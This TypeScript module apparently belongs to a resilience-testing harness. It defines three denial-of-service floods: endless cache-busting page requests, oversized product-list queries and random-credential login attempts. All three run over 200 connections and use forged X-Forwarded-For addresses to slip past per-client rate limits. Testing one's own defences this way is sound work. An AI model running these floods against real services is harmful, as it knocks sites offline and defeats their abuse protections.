import { randomUUID } from 'node:crypto'
import type { HostileAttack } from '../hostile-attack.ts'
import { askForEver } from '../hostile-sockets.ts'
import { jsonRequest } from '../raw-requests.ts'

const CONNECTIONS = 200

/** Each request comes from another /64 in the same /48. So no client uses up its own budget. */
const forwardedFor = (n: number) => `2001:db8:66:${(n % 0xffff).toString(16)}::1`

const get = (path: string, n: number) =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\nX-Forwarded-For: ${forwardedFor(n)}\r\n\r\n`

export const pagesOfANetwork: HostileAttack = {
  name: 'pages of a network',
  does: `asks for ever new pages over ${CONNECTIONS} connections, each time from another client of a /48`,
  prepare: async (target) => () => {
    const page = (n: number) => get(`/collections/all?search=${n}&minPrice=${n % 90}`, n)
    for (let n = 0; n < CONNECTIONS; n++) askForEver(target, page, { atOnce: 1 })
  },
}

export const listsOfANetwork: HostileAttack = {
  name: 'lists of a network',
  does: `reads ever new lists over ${CONNECTIONS} connections, each time from another client of a /48`,
  prepare: async (target) => () => {
    const list = (n: number) => get(`/api/products?limit=1000&minPrice=0.${n % 1_000_000}`, n)
    for (let n = 0; n < CONNECTIONS; n++) askForEver(target, list, { atOnce: 1 })
  },
}

export const signInsOfANetwork: HostileAttack = {
  name: 'sign-ins of a network',
  does: `signs in over ${CONNECTIONS} connections, each time from another client of a /48`,
  prepare: async (target) => () => {
    const ask = (n: number) =>
      jsonRequest(
        'POST',
        '/api/users/login',
        { email: `${n}@x.test`, password: randomUUID() },
        { 'X-Forwarded-For': forwardedFor(n) },
      )
    for (let n = 0; n < CONNECTIONS; n++) askForEver(target, ask, { atOnce: 1 })
  },
}
